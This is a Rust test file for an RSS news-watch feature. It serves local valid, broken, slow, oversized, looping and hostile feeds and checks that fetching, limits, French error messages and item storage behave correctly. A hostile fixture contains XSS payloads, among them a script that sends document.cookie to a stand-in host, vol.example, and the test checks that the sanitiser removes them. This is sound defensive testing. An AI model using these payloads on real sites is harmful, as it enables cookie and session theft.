//! The news watch (« veille »): feeds served by a local HTTP server this test starts (valid,
//! broken, huge, slow, redirecting, looping, hostile, absent, unchanged), fetched and stored on
//! each engine; items found once; one failing feed never stops the others.

mod common;

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::time::Duration;

use common::each_engine;
use fabrique_core::veille::ItemMarks;
use fabrique_store::veille::{FetchOutcome, Validators};
use fabrique_store::veille_fetch::{fetch_feed, FetchLimits};

const RSS: &str = r#"<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Fédération nationale</title>
<item><title>Les 4 000 conseillers numériques</title><link>https://www.centres-sociaux.fr/a</link><guid>a</guid></item>
<item><title>Appel à projets</title><link>https://www.centres-sociaux.fr/b</link><guid>b</guid></item>
</channel></rss>"#;

const HOSTILE: &str = r#"<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Piège</title>
<item><title>&lt;img src=x onerror=alert(1)&gt;Titre</title><link>https://exemple.fr/piege</link>
<description><![CDATA[<script>document.location='https://vol.example/?c='+document.cookie</script><iframe src="https://x"></iframe><p onclick="x()">Texte <a href="javascript:alert(1)">lien</a></p><img src="https://pisteur.example/p.gif">]]></description></item>
<item><title>Lien javascript</title><link>javascript:alert(1)</link></item>
</channel></rss>"#;

/// Serves the test feeds on 127.0.0.1 until the test ends.
fn serve() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || answer(stream));
        }
    });
    base
}

fn answer(mut stream: TcpStream) {
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut first = String::new();
    reader.read_line(&mut first).unwrap();
    let path = first.split_whitespace().nth(1).unwrap_or("/").to_string();
    let mut if_none_match = String::new();
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
            break;
        }
        if let Some(value) = line.to_ascii_lowercase().strip_prefix("if-none-match:") {
            if_none_match = value.trim().to_string();
        }
    }
    let reply = |stream: &mut TcpStream, status: &str, headers: &str, body: &[u8]| {
        let head = format!("HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n{headers}\r\n", body.len());
        let _ = stream.write_all(head.as_bytes());
        let _ = stream.write_all(body);
    };
    match path.as_str() {
        "/valide.xml" if if_none_match == "\"v1\"" => reply(&mut stream, "304 Not Modified", "ETag: \"v1\"\r\n", b""),
        "/valide.xml" => {
            reply(&mut stream, "200 OK", "Content-Type: application/rss+xml\r\nETag: \"v1\"\r\n", RSS.as_bytes())
        }
        "/casse.xml" => reply(&mut stream, "200 OK", "", b"<html><body>Ceci n'est pas un flux</body></html>"),
        "/hostile.xml" => reply(&mut stream, "200 OK", "", HOSTILE.as_bytes()),
        "/enorme.xml" => {
            // Declares a modest length, sends far more: the limit holds on what is read.
            let head = "HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n";
            let _ = stream.write_all(head.as_bytes());
            let chunk = vec![b' '; 64 * 1024];
            for _ in 0..200 {
                if stream.write_all(&chunk).is_err() {
                    break;
                }
            }
        }
        "/lent.xml" => {
            std::thread::sleep(Duration::from_secs(4));
            reply(&mut stream, "200 OK", "", RSS.as_bytes());
        }
        "/redirige" => reply(&mut stream, "302 Found", "Location: /valide.xml\r\n", b""),
        "/boucle" => reply(&mut stream, "302 Found", "Location: /boucle\r\n", b""),
        _ => reply(&mut stream, "404 Not Found", "", b"absent"),
    }
}

const LIMITS: FetchLimits = FetchLimits { timeout: Duration::from_secs(2), max_bytes: 1024 * 1024 };

fn failed(outcome: FetchOutcome) -> String {
    match outcome {
        FetchOutcome::Failed(message) => message,
        other => panic!("expected a failure, got {other:?}"),
    }
}

#[test]
fn hostile_feeds_are_refused_or_read_safely_with_a_french_message() {
    let base = serve();
    let none = Validators::default();
    let FetchOutcome::Read { feed, etag, .. } = fetch_feed(&format!("{base}/valide.xml"), &none, LIMITS) else {
        panic!()
    };
    assert_eq!((feed.title.as_str(), feed.items.len(), etag.as_str()), ("Fédération nationale", 2, "\"v1\""));
    let unchanged = Validators { etag, last_modified: String::new() };
    assert_eq!(fetch_feed(&format!("{base}/valide.xml"), &unchanged, LIMITS), FetchOutcome::NotModified);
    let FetchOutcome::Read { feed, .. } = fetch_feed(&format!("{base}/redirige"), &none, LIMITS) else { panic!() };
    assert_eq!(feed.items.len(), 2, "a redirect is followed");

    assert!(failed(fetch_feed(&format!("{base}/casse.xml"), &none, LIMITS)).contains("pas un flux RSS ou Atom"));
    assert!(failed(fetch_feed(&format!("{base}/enorme.xml"), &none, LIMITS)).contains("dépasse 1 Mo"));
    let started = std::time::Instant::now();
    assert!(failed(fetch_feed(&format!("{base}/lent.xml"), &none, LIMITS)).contains("n'a pas répondu en 2 secondes"));
    assert!(started.elapsed() < Duration::from_secs(4), "the time limit holds");
    assert!(failed(fetch_feed(&format!("{base}/boucle"), &none, LIMITS)).contains("trop d'adresses"));
    assert!(failed(fetch_feed(&format!("{base}/absent"), &none, LIMITS)).contains("répondu 404"));
    assert!(failed(fetch_feed("http://127.0.0.1:9/rien.xml", &none, LIMITS)).contains("ne répond pas"));

    // Hostile HTML comes out as plain text: no tag, no script's content, no javascript: link.
    let FetchOutcome::Read { feed, .. } = fetch_feed(&format!("{base}/hostile.xml"), &none, LIMITS) else { panic!() };
    let [item] = feed.items.as_slice() else { panic!("{:?}", feed.items) };
    assert_eq!(item.title, "Titre");
    assert_eq!(item.summary, "Texte lien");
    for text in [&item.title, &item.summary] {
        assert!(!text.contains('<') && !text.contains("cookie") && !text.contains("javascript"), "{text}");
    }
}

#[test]
fn fetched_items_are_stored_once_and_a_failing_feed_keeps_its_error() {
    let base = serve();
    for (engine, mut store) in each_engine() {
        eprintln!("moteur : {engine}");
        let good = store.add_veille_source(&format!("{base}/valide.xml")).unwrap();
        let bad = store.add_veille_source(&format!("{base}/casse.xml")).unwrap();
        assert_eq!(store.add_veille_source(&format!("{base}/valide.xml")).unwrap_err().code(), "invalid_field");
        assert_eq!(store.add_veille_source("javascript:alert(1)").unwrap_err().code(), "invalid_field");
        for source in [&good, &bad] {
            let outcome = fetch_feed(&source.url, &store.veille_validators(source.id).unwrap(), LIMITS);
            store.record_veille_fetch(source.id, &outcome).unwrap();
        }
        let sources = store.veille_sources().unwrap();
        assert_eq!(sources[0].title, "Fédération nationale");
        assert!(sources[0].error.is_empty() && sources[0].fetched_at.is_some());
        assert!(sources[1].error.contains("pas un flux"), "{}", sources[1].error);
        assert_eq!(store.veille_items().unwrap().len(), 2);

        // Fetched again: unchanged (304), nothing new; the same items from elsewhere are not doubled.
        let validators = store.veille_validators(good.id).unwrap();
        assert_eq!(validators.etag, "\"v1\"");
        let again = fetch_feed(&good.url, &validators, LIMITS);
        assert_eq!(again, FetchOutcome::NotModified);
        assert_eq!(store.record_veille_fetch(good.id, &again).unwrap(), 0);
        let read_anyway = fetch_feed(&good.url, &Validators::default(), LIMITS);
        assert_eq!(store.record_veille_fetch(good.id, &read_anyway).unwrap(), 0, "found once");

        // Marked, tagged, noted; a link added by hand.
        let item = store.veille_items().unwrap()[0].clone();
        let marks = ItemMarks {
            read: true,
            share: true,
            note: " À mettre dans la lettre. ".into(),
            tags: vec!["numérique".into(), " ".into()],
        };
        let marked = store.mark_veille_item(item.id, marks).unwrap();
        assert!(marked.read && marked.share);
        assert_eq!(
            (marked.note.as_str(), marked.tags.clone()),
            ("À mettre dans la lettre.", vec!["numérique".to_string()])
        );
        let added =
            store.add_veille_link("https://www.linkedin.com/posts/hubik-1", "HUBIK recrute", "Pour la lettre").unwrap();
        assert_eq!(added.source_id, None);
        assert_eq!(
            store.add_veille_link("https://www.linkedin.com/posts/hubik-1", "Encore", "").unwrap_err().code(),
            "invalid_field"
        );

        // Unfollowed: its items go, except the one to share.
        store.delete_veille_source(good.id).unwrap();
        let left: Vec<String> = store.veille_items().unwrap().iter().map(|i| i.title.clone()).collect();
        assert_eq!(left.len(), 2, "{left:?}");
        assert!(left.contains(&"HUBIK recrute".to_string()) && left.contains(&marked.title));
    }
}

#[test]
fn the_demo_follows_three_feeds_with_items_to_share() {
    for (engine, store, _) in common::each_engine_with_demo() {
        eprintln!("moteur : {engine}");
        assert_eq!(store.veille_sources().unwrap().len(), 3);
        let items = store.veille_items().unwrap();
        assert!(items.len() >= 5, "{}", items.len());
        let shared: Vec<_> = items.iter().filter(|i| i.share).collect();
        assert!(!shared.is_empty() && shared.iter().all(|i| !i.note.is_empty() && i.read));
        assert!(items.iter().any(|i| i.tags.contains(&"RGPD".to_string())));
    }
}
